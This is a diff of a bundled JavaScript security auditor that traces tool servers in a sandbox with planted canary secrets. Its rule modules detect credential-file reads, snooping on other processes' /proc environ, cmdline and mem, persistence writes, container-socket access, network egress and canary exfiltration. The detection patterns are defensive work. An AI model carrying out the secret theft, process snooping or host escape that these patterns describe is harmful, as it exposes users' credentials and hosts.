-        this.categories[at] = category;
-        this.renamedTo[at] = renamedTo;
-        this.via[at] = via;
-        this.accesses[at] = model/* FILE_ACCESSES */.wc.indexOf(access);
-        this.lines[at] = event.line;
-        this.times[at] = event.time;
-        this.rets[at] = event.ret ?? NaN;
-        this.transient[at] = 0;
-        this.earlier[at] = -1;
-        const succeeded = event.ret !== null && event.ret >= 0;
-        if (!succeeded)
-            return;
-        switch (access) {
-            case 'create':
-            case 'mkdir':
-                this.extendHistory(path, at, true);
-                return;
-            case 'write':
-                this.extendHistory(path, at, false);
-                return;
-            case 'rename': {
-                const to = renamedTo;
-                if (to === undefined)
-                    return;
-                // A file this unit wrote, renamed onto another name (a temp or lock over its target): the target
-                // is what changed. A rename of anything older moves it away, which stays an effect of its own.
-                const madeHere = this.written.has(path);
-                if (madeHere)
-                    this.markHistoryTransient(path);
-                this.written.delete(path);
-                if (madeHere && isGitIndexRefresh(path, to)) {
-                    // git's opportunistic refresh of its index, a cache of file stats, that read-only commands such
-                    // as `git status` make (what GIT_OPTIONAL_LOCKS=0 turns off): the working tree and the history
-                    // are as they were. It stays in the profile, marked, and is no change a call is judged by.
-                    this.transient[at] = 1;
-                    this.via[at] = GIT_INDEX_REFRESH;
-                    return;
-                }
-                if (madeHere)
-                    this.extendHistory(to, at, false);
-                return;
-            }
-            case 'delete':
-                if (this.isNew(path)) {
-                    this.markHistoryTransient(path);
-                    this.transient[at] = 1;
-                }
-                this.written.delete(path);
-                return;
-            case 'read':
-                return;
-        }
-    }
-    /** Hands every held access to `record` in trace order, and empties the journal for the next unit. */
-    flush(record) {
-        for (let at = 0; at < this.count; at++) {
-            const ret = this.rets[at];
-            record(this.paths[at], model/* FILE_ACCESSES */.wc[this.accesses[at]], this.categories[at], { line: this.lines[at], time: this.times[at], ret: Number.isNaN(ret) ? null : ret }, this.renamedTo[at], this.via[at], this.transient[at] === 1);
-        }
-        this.count = 0;
-        for (const column of [this.paths, this.categories, this.renamedTo, this.via])
-            column.length = 0;
-        this.written = new Map();
-    }
-    extendHistory(path, at, creates) {
-        const state = this.written.get(path);
-        this.earlier[at] = state === undefined ? -1 : state >> 1;
-        this.written.set(path, (at << 1) | (creates ? 1 : (state ?? 0) & 1));
-    }
-    markHistoryTransient(path) {
-        const state = this.written.get(path);
-        for (let at = state === undefined ? -1 : state >> 1; at !== -1; at = this.earlier[at])
-            this.transient[at] = 1;
-    }
-    isNew(path) {
-        const created = (dir) => ((this.written.get(dir) ?? 0) & 1) === 1;
-        if (!path.startsWith('/'))
-            return created(path);
-        for (let dir = path;; dir = external_node_path_.posix.dirname(dir)) {
-            if (created(dir))
-                return true;
-            if (dir === '/')
-                return false;
-        }
-    }
-}
-
-;// CONCATENATED MODULE: ./src/profile/file-recorder.ts
-
-
-
-
-
-class FileRecorder {
-    clock;
-    pathContext;
-    limits;
-    aggregated;
-    onRead;
-    files = new Tally();
-    /** exact file entries of sensitive paths, which get room of their own beyond the shared cap */
-    sensitiveFileEntries = 0;
-    foldedFileEntries = 0;
-    noise = {};
-    journal = new CallJournal();
-    journalUnit = null;
-    /** `aggregated`: accesses recorded in directory aggregates instead of per path, by profile section (shared) */
-    constructor(clock, pathContext, limits, aggregated, 
-    /** told of every successful read, before any noise verdict */
-    onRead) {
-        this.clock = clock;
-        this.pathContext = pathContext;
-        this.limits = limits;
-        this.aggregated = aggregated;
-        this.onRead = onRead;
-    }
-    /** Files whose reads are findings by themselves: the planted home and credential stores anywhere. */
-    isSensitive(path) {
-        return isUnder(path, this.pathContext.home) || isCredentialPath(path, this.pathContext.home);
-    }
-    /**
-     * A read by a standard program consulting a credential store for the host it is about to contact
-     * (credential-lookups.ts): an entry of its own, returned so that the host can be added to it.
-     */
-    recordLookup(path, event, program) {
-        if (event.ret !== null && event.ret >= 0)
-            this.onRead?.(path);
-        return this.recordEntry(path, 'read', classifyPath(path, 'read', this.pathContext).category, event, undefined, undefined, false, program);
-    }
-    record(path, access, event, renamedTo, via) {
-        if (access === 'read' && event.ret !== null && event.ret >= 0)
-            this.onRead?.(path);
-        const classification = classifyPath(path, access, this.pathContext);
-        const renameClass = renamedTo !== undefined ? classifyPath(renamedTo, 'rename', this.pathContext) : null;
-        const noise = classification.noise && (renameClass === null || renameClass.noise);
-        if (noise) {
-            this.noise[classification.category] = (this.noise[classification.category] ?? 0) + 1;
-            return;
-        }
-        if (access === 'read') {
-            this.recordEntry(path, access, classification.category, event, renamedTo, via, false);
-            return;
-        }
-        // the unit a net effect is taken over: one call (its after-response time included), startup, shutdown
-        const unit = callKey(this.clock.phaseAt(event.time));
-        if (unit !== this.journalUnit || this.journal.size >= MAX_PENDING_ACCESSES) {
-            this.flushJournal();
-            this.journalUnit = unit;
-        }
-        this.journal.add(path, access, classification.category, event, renamedTo, via);
-    }
-    flushJournal() {
-        this.journal.flush(this.recordHeld);
-        this.journalUnit = null;
-    }
-    recordHeld = (path, access, category, event, renamedTo, via, transient) => {
-        this.recordEntry(path, access, category, event, renamedTo, via, transient);
-    };
-    recordEntry(path, access, category, event, renamedTo, via, transient, lookupBy) {
-        const succeeded = event.ret !== null && event.ret >= 0;
-        const phase = this.clock.phaseAt(event.time);
-        const key = `${callSiteKey(phase)}\0${path}\0${access}\0${renamedTo ?? ''}\0${via ?? ''}${transient ? '\0transient' : ''}${lookupBy !== undefined ? `\0lookup\0${lookupBy}` : ''}`;
-        if (!this.files.has(key)) {
-            const sensitive = this.isSensitive(path) || (renamedTo !== undefined && this.isSensitive(renamedTo));
-            const room = this.files.size - this.sensitiveFileEntries - this.foldedFileEntries < this.limits.files;
-            const sensitiveRoom = sensitive && this.sensitiveFileEntries < this.limits.sensitiveFiles;
-            if (!room && !sensitiveRoom) {
-                this.recordFolded(path, access, category, succeeded, event);
-                return undefined;
-            }
-            if (!room)
-                this.sensitiveFileEntries++;
-        }
-        const entry = this.files.record(key, phase, event.line, () => {
-            const home = this.pathContext.home;
-            const made = { path, access, succeeded, category, noise: false, count: 0, phases: [], traceLines: [] };
-            if (isUnder(path, home))
-                made.homePath = displayPath(path, home);
-            if (renamedTo !== undefined)
-                made.renamedTo = renamedTo;
-            if (via !== undefined)
-                made.via = via;
-            if (transient)
-                made.transient = true;
-            if (lookupBy !== undefined)
-                made.lookup = { program: lookupBy, hosts: [] };
-            return made;
-        });
-        entry.count += 1;
-        entry.succeeded ||= succeeded;
-        return entry;
-    }
-    /** the entries, and the count of noise accesses per category */
-    finish() {
-        this.flushJournal();
-        return { files: this.files.values(), noise: this.noise };
-    }
-    /**
-     * Past the cap of distinct paths, accesses are counted per directory (one entry per directory, access
-     * and category), then per top-level directory, then under `/`: a flood of distinct names cannot grow
-     * the profile, and every access is still counted and dated.
-     */
-    recordFolded(path, access, category, succeeded, event) {
-        this.aggregated.files = (this.aggregated.files ?? 0) + 1;
-        for (const level of FOLD_LEVELS) {
-            const dir = foldedDirectory(path, level);
-            const key = `${dir}\0${access}\0\0\0${category}\0folded`;
-            const known = this.files.has(key);
-            // Top-level directories get room of their own: they are what parents fold into.
-            const room = level === 'root' || this.foldedFileEntries < (level === 'parent' ? 1 : 2) * this.limits.foldedFiles;
-            if (!known && !room)
-                continue;
-            if (!known)
-                this.foldedFileEntries++;
-            const entry = this.files.record(key, this.clock.phaseAt(event.time), event.line, () => {
-                const made = { path: dir, access, succeeded, category, noise: false, aggregated: true, count: 0, phases: [], traceLines: [] };
-                if (isUnder(dir, this.pathContext.home))
-                    made.homePath = displayPath(dir, this.pathContext.home);
-                return made;
-            });
-            entry.count += 1;
-            entry.succeeded ||= succeeded;
-            return;
-        }
-    }
-}
-/**
- * What an open() does to the file. O_PATH only obtains a handle (no read); O_CREAT without O_EXCL
- * may overwrite, so it is a write; O_CREAT|O_EXCL only ever makes a new file.
- */
-function accessOfOpen(event) {
-    if (event.syscall === 'creat')
-        return 'create';
-    const flags = new Set(event.flags);
-    if (flags.has('O_PATH'))
-        return null;
-    if (flags.has('O_CREAT') && flags.has('O_EXCL'))
-        return 'create';
-    if (flags.has('O_WRONLY') || flags.has('O_RDWR') || flags.has('O_CREAT') || flags.has('O_TRUNC'))
-        return 'write';
-    return 'read';
 }
 
 ;// CONCATENATED MODULE: ./src/trace/c-string.ts
@@ -36799,7 +39243,9 @@ class ProfileBuilder {
                     if (target !== null)
                         this.aliases.onLink(event.pid, target, linkPath);
                 }
-                return this.files.record(linkPath, 'create', event);
+                // Marked, so the rules can tell a link (another name for a file that may be older than the run)
+                // from a file made new.
+                return this.files.record(linkPath, 'create', event, undefined, event.symbolic ? SYMBOLIC_LINK : HARD_LINK);
             }
             case 'handle':
                 if (event.ret === 0)
@@ -36999,1676 +39445,74 @@ function decodeDnsPayload(data, protocol) {
     return decodeDnsQuery(data) ?? decodeDnsTcpQuery(data);
 }
 
-// EXTERNAL MODULE: ./src/report/verdict.ts
-var report_verdict = __nccwpck_require__(687);
-;// CONCATENATED MODULE: ./src/rules/aggregate-findings.ts
-// Occurrences → findings: one finding per rule, subject and call site, with a stable fingerprint and
-// merged, capped evidence.
+;// CONCATENATED MODULE: ./src/profile/canary-watch-reads.ts
 
-
-
-
-const MAX_EVIDENCE_LINES = 20;
-/**
- * Stable across runs: rule, subject and call site. A tool's site is its bare name and startup's is
- * empty, as before call sites were part of findings, so those fingerprints did not change.
- */
-function fingerprint(rule, subject, phase) {
-    const site = phase.kind === 'startup'
-        ? ''
-        : phase.kind === 'shutdown' || phase.kind === 'install'
-            ? `\0${phase.kind}`
-            : phase.call.kind === 'tool'
-                ? phase.call.name
-                : `${phase.call.name}\0${phase.call.kind}`;
-    return (0,external_node_crypto_.createHash)('sha256').update(`${rule}\0${subject}\0${site}`).digest('hex').slice(0, 16);
-}
-function mergeEvidence(a, b) {
-    const merged = { ...a };
-    for (const key of ['paths', 'addresses', 'dnsNames', 'canaries', 'manifestItems']) {
-        const values = [...(a[key] ?? []), ...(b[key] ?? [])];
-        if (values.length > 0)
-            merged[key] = [...new Set(values)].slice(0, 20);
-    }
-    const argv = [...(a.argv ?? []), ...(b.argv ?? [])];
-    if (argv.length > 0) {
-        const seen = new Map(argv.map((v) => [JSON.stringify(v), v]));
-        merged.argv = [...seen.values()].slice(0, 10);
-    }
-    if (merged.declared === undefined && b.declared !== undefined)
-        merged.declared = b.declared;
-    return merged;
-}
-const before = (a, b) => (b.attempt === true && a.attempt !== true) ||
-    (!!a.attempt === !!b.attempt && (a.order[0] < b.order[0] || (a.order[0] === b.order[0] && a.order[1] < b.order[1])));
-/**
- * One finding per rule, subject and call site (startup, shutdown, or one tool/resource/prompt), so
- * every tool that did something is named, each with its own trace lines. Within a site the most
- * severe occurrence speaks for the finding (its message and phase; the earliest among equals).
- */
-function aggregate(occurrences) {
-    const groups = new Map();
-    for (const occ of occurrences) {
-        const key = `${occ.rule}\0${occ.subject}\0${callSiteKey(occ.phase)}`;
-        const group = groups.get(key);
-        if (!group) {
-            groups.set(key, { lead: occ, evidence: occ.evidence, lines: new Set(occ.traceLines) });
-            continue;
-        }
-        const rank = (0,model/* severityRank */.qs)(occ.severity) - (0,model/* severityRank */.qs)(group.lead.severity);
-        const leads = rank > 0 || (rank === 0 && before(occ, group.lead));
-        group.evidence = leads ? mergeEvidence(occ.evidence, group.evidence) : mergeEvidence(group.evidence, occ.evidence);
-        if (leads)
-            group.lead = occ;
-        for (const line of occ.traceLines)
-            group.lines.add(line);
-    }
-    const findings = [];
-    for (const { lead, evidence, lines } of groups.values()) {
-        const tool = callName(lead.phase);
-        const finding = {
-            rule: lead.rule,
-            severity: lead.severity,
-            message: lead.message,
-            ...(tool !== undefined ? { tool } : {}),
-            phase: lead.phase,
-            evidence: { ...evidence, traceLines: [...lines].sort((a, b) => a - b).slice(0, MAX_EVIDENCE_LINES) },
-            fingerprint: fingerprint(lead.rule, lead.subject, lead.phase)
-        };
-        findings.push({ finding, subject: lead.subject, order: lead.order });
-    }
-    findings.sort((a, b) => (0,model/* severityRank */.qs)(b.finding.severity) - (0,model/* severityRank */.qs)(a.finding.severity) ||
-        (a.finding.rule < b.finding.rule ? -1 : a.finding.rule > b.finding.rule ? 1 : 0) ||
-        (a.subject < b.subject ? -1 : a.subject > b.subject ? 1 : 0) ||
-        a.order[0] - b.order[0] ||
-        a.order[1] - b.order[1]);
-    return findings.map((f) => f.finding);
-}
-
-;// CONCATENATED MODULE: ./src/rules/behaviour-rules.ts
-// behaviour-change: what a call site does now that it did not do in the accepted baseline (or no longer
-// does). Severity comes from the diff (baseline/diff.ts); an accepted change is info, like rug-pull.
-
-function phaseOfSite(site, calls) {
-    if (site === 'shutdown')
-        return { kind: 'shutdown' };
-    const call = calls.find((record) => `${record.kind}:${record.name}` === site);
-    if (!call)
-        return { kind: 'startup' };
-    return { kind: 'call', call: { id: call.id, kind: call.kind, name: call.name, iteration: call.iteration }, afterResponse: false };
-}
-function behaviourOccurrences(behaviour, calls) {
-    if (!behaviour || (behaviour.status !== 'changed' && behaviour.status !== 'accepted'))
-        return [];
-    return behaviour.changes.map((change, index) => ({
-        rule: 'behaviour-change',
-        subject: `${change.site} ${change.change} ${change.aspect} ${change.value}`,
-        severity: behaviour.status === 'accepted' ? 'info' : change.severity,
-        message: (0,neutralize/* excerpt */.Kb)(behaviour.status === 'accepted' ? `${change.message} (accepted)` : change.message, 300),
-        phase: phaseOfSite(change.site, calls),
-        order: [0, index],
-        evidence: {},
-        traceLines: []
-    }));
-}
-
-;// CONCATENATED MODULE: ./src/profile/process-snooping.ts
-// Another process's environment, command line and memory hold its secrets (tokens passed as arguments or
-// environment, keys in memory). The profile keeps /proc/<pid> of the server's own processes as noise, so a
-// /proc/<pid>/… entry that reaches the rules belongs to a process the server did not start.
-const SNOOPED = /^\/proc\/(\d+)(?:\/task\/\d+)?\/(environ|cmdline|mem)$/;
-/** The process and file when `path` is another process's environ, cmdline or mem (never /proc/self). */
-function snoopedProcessFile(path) {
-    const match = SNOOPED.exec(path);
-    return match ? { pid: Number(match[1]), file: match[2] } : null;
-}
-
-;// CONCATENATED MODULE: ./src/rules/host-containment-rules.ts
-// Host containment: with the server's filesystem contained, a write outside the places it may change
-// (host-write, judged in file-rules) or a connect to a host unix socket (host-socket) reaches the host.
-
-
-/** With containment, a write anywhere but the workspaces, the home and temp dirs would change the host. */
-function outsideWritable(judge, path, file) {
-    const roots = judge.input.writableRoots;
-    if (roots === undefined || !path.startsWith('/'))
-        return false;
-    // A flood folded into a directory aggregate (even `/`) keeps its entries' category: temp files, the
-    // working directory and the home stay writable places whatever the aggregate's path.
-    if (file.aggregated && (file.category === 'tmp' || file.category === 'workdir' || file.category === 'canary-home'))
-        return false;
-    if (judge.input.auditorPaths?.some((root) => isUnder(path, root)))
-        return true;
-    if (roots.some((root) => isUnder(path, root)))
-        return false;
-    // Writing to the null device, a terminal or an fd of its own changes nothing.
-    return !/^\/dev\/(null|zero|full|tty|pts\/|stdout|stderr|fd\/)|^\/proc\/(self|thread-self|\d+)\/fd\//.test(path);
-}
-// Sockets glibc's name service switch tries on every lookup (nscd, systemd-resolved and userdb, avahi):
-// a failed connect there is how a resolver falls back to plain DNS, not an attempt on the host.
-const NAME_SERVICE_SOCKETS = [
-    /^\/(var\/)?run\/nscd\//,
-    /^\/run\/systemd\/(resolve|userdb)\//,
-    /^\/(var\/)?run\/avahi-daemon\//,
-    /^\/run\/dbus\/system_bus_socket$/
-];
-const CONTAINER_SOCKETS = /(^|\/)(docker|containerd|podman|crio|cri-dockerd|buildkitd|dockershim|lxd|incus)(\.sock|\/|$)/;
-function hostSocketOccurrences(judge, out) {
-    const roots = judge.input.writableRoots;
-    if (roots === undefined)
-        return;
-    for (const entry of judge.input.observed.network) {
-        if (entry.family !== 'unix' || entry.address.startsWith('@') || !entry.address.startsWith('/'))
-            continue;
-        // A socket the server made itself in its own scratch space is not the host's.
-        if (roots.some((root) => isUnder(entry.address, root)))
-            continue;
-        if (NAME_SERVICE_SOCKETS.some((pattern) => pattern.test(entry.address)))
-            continue;
-        const container = CONTAINER_SOCKETS.test(entry.address);
-        const verb = entry.succeeded ? (entry.syscall === 'connect' ? 'connects to' : 'sends data to') : 'tried to connect to';
-        pushOccurrences(out, entry, { rule: 'host-socket', subject: entry.address, evidence: { addresses: [`unix:${entry.address}`] } }, () => ({ severity: container ? 'critical' : 'high', suffix: '' }), () => `${verb} the host unix socket ${entry.address}${container ? ' (a container runtime: full control of the host)' : ''}`);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/rules/file-rules.ts
-// Files: sensitive-file-read, process-snooping, host-path, persistence (by path), file-write,
-// file-delete and host-write.
-
-
-
-
-
-
-function isTemporary(path, home, cwd) {
-    // The server's own working directory is never scratch space, even when it sits under /tmp.
-    if (isUnder(path, home) || (cwd !== undefined && isUnder(path, cwd)))
-        return false;
-    return isUnder(path, '/tmp') || isUnder(path, '/var/tmp') || isUnder(path, '/dev/shm');
-}
-function fileOccurrences(judge, out) {
-    const { observed, home } = judge.input;
-    const show = (path) => displayPath(path, home);
-    const written = new Set(observed.files.filter((f) => f.access === 'write' || f.access === 'create').map((f) => f.path));
+// The canary watch's reads (inotify on the canary home) that the trace does not show in the same call
+// become file reads of their own, marked as seen by that witness: the rules then judge them like any
+// read of a canary file, and the sink's matching counts the file's pieces from that call on.
+const CANARY_WATCH_VIA = "the kernel's inotify on the canary home (no syscall in the trace shows it)";
+function witnessOnlyReads(observed, 
+/** the watch's records (sandbox/canary-watch.ts): when, and the path relative to the canary home */
+records, canaryFiles, home, calls, shutdownAt, 
+/** when the traced lifecycle scripts ended (--install-scripts): reads before it are phase install */
+installEndsAt) {
+    const canaryIds = new Set(canaryFiles.map((file) => file.id));
+    const traced = new Set();
     for (const file of observed.files) {
-        if (file.noise)
+        if (file.access !== 'read' || !file.succeeded || file.homePath === undefined)
             continue;
-        const tried = !file.succeeded;
-        if (file.access === 'read')
-            readOccurrences(judge, out, file, show(file.path), tried);
-        const target = file.access === 'rename' ? file.renamedTo : file.access === 'read' || file.access === 'delete' ? undefined : file.path;
-        const saved = file.access === 'rename' && written.has(file.path);
-        if (target !== undefined)
-            writeOccurrences(judge, out, file, target, tried, saved);
-        const removed = file.access === 'delete' ? file.path : file.access === 'rename' && !saved ? file.path : undefined;
-        if (removed !== undefined)
-            deleteOccurrences(judge, out, file, removed, tried);
+        for (const phase of file.phases)
+            traced.add(`${file.homePath}\0${callKey(phase)}`);
     }
-}
-function readOccurrences(judge, out, file, shown, tried) {
-    const { home } = judge.input;
-    const verb = tried ? 'tried to read' : 'reads';
-    const snooped = file.noise ? null : snoopedProcessFile(file.path);
-    if (snooped) {
-        pushOccurrences(out, file, { rule: 'process-snooping', subject: file.path, evidence: { paths: [file.path] } }, () => ({ severity: 'high', suffix: '' }), () => `${verb} the ${snooped.file} of another process (pid ${snooped.pid})`);
-        return;
-    }
-    if (file.lookup)
-        return lookupOccurrences(judge, out, file, shown, tried);
-    const sensitive = isSensitivePath(file.path, home);
-    if (file.category === 'host' && !sensitive) {
-        // Hidden by the sandbox (another user's home, the runner's or the auditor's files): whether it
-        // worked or not, looking there is the finding.
-        pushOccurrences(out, file, { rule: 'host-path', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'high', suffix: '' }), () => `${tried ? 'tried to read' : 'reads'} ${shown}, a host path the sandbox hides`);
-        return;
-    }
-    // Failed lookups outside the policy are how runtimes search for modules; only sensitive ones count.
-    if (!sensitive && tried)
-        return;
-    const via = file.via !== undefined ? ` via ${file.via}` : '';
-    const what = file.aggregated ? `${shown} (${file.count} accesses to paths below it)` : shown;
-    pushOccurrences(out, file, { rule: 'sensitive-file-read', subject: shown, evidence: { paths: [shown], ...(file.witness ? { witness: file.witness } : {}) } }, (phase) => {
-        const judged = judge.decide(judge.policy.read(callName(phase), file.path), "; outside the policy's read paths", null, sensitive ? 'high' : null);
-        return sensitive && judged.severity === 'high' && !judged.declared ? { ...judged, suffix: ', undeclared' } : judged;
-    }, (j) => `${verb} ${what}${via}${j.suffix}`);
-}
-/**
- * `saved`: a rename of a file the server itself wrote (a temp file or lock onto its target), whose net
- * effect is writing the target.
- */
-/**
- * git or libcurl consulting ~/.netrc (or git's credential store) for the host it contacts: an
- * observation with the program and the host, high once that credential is seen leaving.
- */
-function lookupOccurrences(judge, out, file, shown, tried) {
-    const lookup = file.lookup;
-    if (!lookup)
-        return;
-    const leaked = judge.input.observed.leaks.some((leak) => leak.canary === shown);
-    const hosts = lookup.hosts.length > 0 ? ` before contacting ${lookup.hosts.slice(0, 3).join(', ')}${lookup.hosts.length > 3 ? ', …' : ''}` : '';
-    pushOccurrences(out, file, { rule: 'credential-lookup', subject: `${lookup.program}\0${shown}`, evidence: { paths: [shown], argv: [[lookup.program]] } }, (phase) => judge.decide(judge.policy.read(callName(phase), file.path), "; outside the policy's read paths", null, leaked ? 'high' : 'info'), (j) => `${lookup.program} ${tried ? 'tried to consult' : 'consulted'} ${shown}${hosts}${leaked ? ', and the credential was seen leaving' : ''}${j.suffix}`);
-}
-function writeOccurrences(judge, out, file, target, tried, saved) {
-    const { home } = judge.input;
-    const shown = displayPath(target, home);
-    const kind = persistenceKind(target, home);
-    const verb = file.access === 'rename'
-        ? saved && !tried
-            ? 'writes'
-            : `${tried ? 'tried to rename' : 'renames'} ${displayPath(file.path, home)} to`
-        : file.access === 'create'
-            ? tried
-                ? 'tried to create'
-                : 'creates'
-            : file.access === 'mkdir'
-                ? tried
-                    ? 'tried to create the directory'
-                    : 'creates the directory'
-                : tried
-                    ? 'tried to write'
-                    : 'writes';
-    if (kind !== null && file.access !== 'mkdir') {
-        // Persistence is reported whatever the annotations or the policy say.
-        pushOccurrences(out, file, { rule: 'persistence', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'critical', suffix: '' }), () => `${verb} ${shown} (${kind})`);
-        return;
-    }
-    if (outsideWritable(judge, target, file)) {
-        pushOccurrences(out, file, { rule: 'host-write', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'high', suffix: '' }), () => `${verb} ${shown}, outside its workspace and temp dirs`);
-        return;
-    }
-    // Persistence and escapes are judged on every access; what a call undid itself changes nothing the
-    // annotations or the policy speak of.
-    if (file.transient)
-        return;
-    const temporary = isTemporary(target, home, judge.input.cwd);
-    pushOccurrences(out, file, { rule: 'file-write', subject: shown, evidence: { paths: [shown] } }, (phase) => judge.decide(judge.policy.write(callName(phase), target), "; outside the policy's write paths", 
-    // Temporary files do not modify the environment a read-only tool promises to leave alone.
-    temporary ? null : judge.restriction(phase, writeRestriction, 'readOnlyHint: true'), temporary ? null : 'info'), (j) => `${verb} ${shown}${j.suffix}`);
-}
-function deleteOccurrences(judge, out, file, removed, tried) {
-    const { home } = judge.input;
-    const shown = displayPath(removed, home);
-    const temporary = isTemporary(removed, home, judge.input.cwd);
-    const verb = file.access === 'rename' ? (tried ? 'tried to move away' : 'moves away') : tried ? 'tried to delete' : 'deletes';
-    if (outsideWritable(judge, removed, file)) {
-        pushOccurrences(out, file, { rule: 'host-write', subject: shown, evidence: { paths: [shown] } }, () => ({ severity: 'high', suffix: '' }), () => `${verb} ${shown}, outside its workspace and temp dirs`);
-        return;
-    }
-    if (file.transient)
-        return;
-    pushOccurrences(out, file, { rule: 'file-delete', subject: shown, evidence: { paths: [shown] } }, (phase) => judge.decide(judge.policy.write(callName(phase), removed), "; outside the policy's write paths", temporary ? null : judge.restriction(phase, deleteRestriction, 'it does not delete'), temporary ? null : 'info'), (j) => `${verb} ${shown}${j.suffix}`);
-}
-
-;// CONCATENATED MODULE: ./src/rules/io-uring-rules.ts
-// unobservable-io: io_uring moves I/O out of the syscalls strace sees, so setting it up is the finding.
-
-function ioUringOccurrences(judge, out) {
-    // What another witness saw go through it: reads of canary files with no syscall in the trace.
-    const unseen = judge.input.observed.files.filter((file) => file.witness === 'canary-watch').map((file) => file.homePath ?? file.path);
-    const seen = unseen.length > 0 ? `; the kernel's canary watch saw ${unseen.join(', ')} read with no syscall in the trace` : '';
-    for (const entry of judge.input.observed.ioUring) {
-        pushOccurrences(out, entry, { rule: 'unobservable-io', subject: 'io_uring', evidence: {} }, () => ({ severity: 'medium', suffix: '' }), () => `sets up io_uring; file and network I/O submitted through it does not appear in the trace${seen}`);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/rules/leak-rules.ts
-// canary-exfiltration: a planted secret leaving the process by socket, DNS name or child argv/env.
-
-
-
-function leakOccurrences(judge, out) {
-    for (const leak of judge.input.observed.leaks) {
-        const encoded = leak.encoding === 'raw' ? '' : ` (${leak.encoding}-encoded)`;
-        const destination = (0,neutralize/* excerpt */.Kb)(leak.destination.split(judge.input.home).join('~'));
-        // Seen only by the sink: the reviewer's proof is network.jsonl, not trace.log.
-        const seen = leak.witness === 'sink' ? `, seen by the sink (network.jsonl${leak.attributedBy === 'time' ? '; tied to the call by time' : ''})` : '';
-        const what = `${partOfFile(leak) ?? `the canary from ${leak.canary}`}${encoded}`;
-        const said = leak.via === 'socket'
-            ? `sends ${what} to ${destination}`
-            : leak.via === 'dns'
-                ? `looks up a DNS name carrying ${what} ('${destination}')`
-                : `passes ${what} to a child process (${external_node_path_.posix.basename(destination)})`;
-        const message = said + seen;
-        const evidence = {
-            canaries: [leak.canary],
-            ...(leak.bytes ? { canaryBytes: [`${leak.canary} bytes ${leak.bytes.start}–${leak.bytes.end} of ${leak.bytes.of}`] } : {}),
-            ...(leak.via === 'socket' ? { addresses: [destination] } : leak.via === 'dns' ? { dnsNames: [destination] } : { paths: [destination] }),
-            ...(leak.witness ? { witness: leak.witness } : {})
-        };
-        // Not suppressible: a planted secret leaving the process is never within any declared scope.
-        pushOccurrences(out, leak, { rule: 'canary-exfiltration', subject: `${leak.canary} ${leak.via} ${destination}`, evidence }, () => ({ severity: 'critical', suffix: '' }), () => message);
-    }
-}
-/** "bytes 0–64 of ~/.ssh/id_rsa" for a piece of a canary file; undefined for a whole file or a token. */
-function partOfFile(leak) {
-    const bytes = leak.bytes;
-    if (bytes?.within !== 'file' || (bytes.start === 0 && bytes.end === bytes.of))
-        return undefined;
-    return `bytes ${bytes.start}–${bytes.end} of ${leak.canary}`;
-}
-
-;// CONCATENATED MODULE: ./src/rules/network-rules.ts
-// Network: network-egress (connects and sends off loopback) and dns-query.
-
-
-
-
-function networkOccurrences(judge, out) {
-    for (const entry of judge.input.observed.network) {
-        if (entry.loopback || entry.family === 'unix')
+    const clock = new PhaseClock([...calls], shutdownAt, installEndsAt);
+    const reads = new Map();
+    for (const record of records) {
+        const homePath = `~/${record.path}`;
+        if (!canaryIds.has(homePath))
             continue;
-        const endpoint = formatEndpoint(entry.address, entry.port);
-        const names = entry.hostnames.map((n) => (0,neutralize/* excerpt */.Kb)(n, 60));
-        const shownNames = names.length > 0 ? ` (${names.slice(0, 3).join(', ')})` : '';
-        const verb = entry.syscall === 'connect' ? (entry.succeeded ? 'connects to' : 'tried to connect to') : entry.succeeded ? 'sends data to' : 'tried to send data to';
-        const evidence = { addresses: [endpoint], ...(names.length > 0 ? { dnsNames: names } : {}) };
-        pushOccurrences(out, entry, { rule: 'network-egress', subject: `${entry.protocol} ${endpoint}`, evidence }, (phase) => judge.decide(judge.policy.destination(callName(phase), entry.address, entry.port, entry.hostnames), "; not in the policy's network allow list", judge.restriction(phase, egressRestriction, 'that it stays local'), 'info'), (j) => `${verb} ${endpoint}${shownNames} over ${entry.protocol}${j.suffix}`);
-    }
-    for (const query of judge.input.observed.dns) {
-        const name = query.name.replace(/\.$/, '');
-        if (name === 'localhost' || name.endsWith('.localhost'))
+        const phase = clock.phaseAt(record.at / 1000);
+        if (traced.has(`${homePath}\0${callKey(phase)}`))
             continue;
-        const shown = (0,neutralize/* excerpt */.Kb)(name);
-        pushOccurrences(out, query, { rule: 'dns-query', subject: name, evidence: { dnsNames: [shown] } }, (phase) => judge.decide(judge.policy.dnsName(callName(phase), name), "; not in the policy's network allow list", judge.restriction(phase, egressRestriction, 'that it stays local'), 'info'), (j) => `looks up ${shown} (${query.type})${j.suffix}`);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/rules/rug-pull-rules.ts
-// rug-pull: the manifest changed since it was pinned, or an item declared at startup changed during the
-// session. surface-change: items added or removed during the session (a surface that grows by design,
-// such as a tool that publishes a resource, is reported, not called a rug-pull). Both name the call
-// after which the server announced the change (notifications/<list>/list_changed), when it did.
-
-
-function changedFields(diff) {
-    if (!diff)
-        return [];
-    const fields = new Set();
-    for (const line of diff.split('\n')) {
-        const match = /^[+-]\s*"([A-Za-z][A-Za-z0-9_]{0,40})"\s*:/.exec(line);
-        if (match && !line.startsWith('+++') && !line.startsWith('---'))
-            fields.add(match[1]);
-    }
-    return [...fields].sort();
-}
-const LIST_OF = {
-    tool: 'tools',
-    resource: 'resources',
-    resourceTemplate: 'resources',
-    prompt: 'prompts',
-    instructions: null
-};
-/**
- * The call after which the server announced a change to `list`: its first such notification during a
- * call (earlier ones came before the listing the session started from); shutdown when it never said.
- */
-function announcedAfter(change, listChanged) {
-    const list = LIST_OF[change.kind];
-    const notice = list === null ? undefined : listChanged?.find((entry) => entry.list === list);
-    return notice?.phases.find((phase) => phase.kind === 'call') ?? { kind: 'shutdown' };
-}
-function afterText(phase) {
-    return phase.kind === 'call' ? `after ${(0,neutralize/* excerpt */.Kb)(phase.call.name)} #${phase.call.iteration}` : 'during the session';
-}
-function rugPullOccurrences(rugPull, listChanged) {
-    const out = [];
-    const describe = (change, when) => {
-        const name = (0,neutralize/* excerpt */.Kb)(change.name);
-        if (change.kind === 'instructions')
-            return `server instructions ${change.change === 'modified' ? 'changed' : change.change} ${when}`;
-        if (change.change === 'modified') {
-            const fields = changedFields(change.diff);
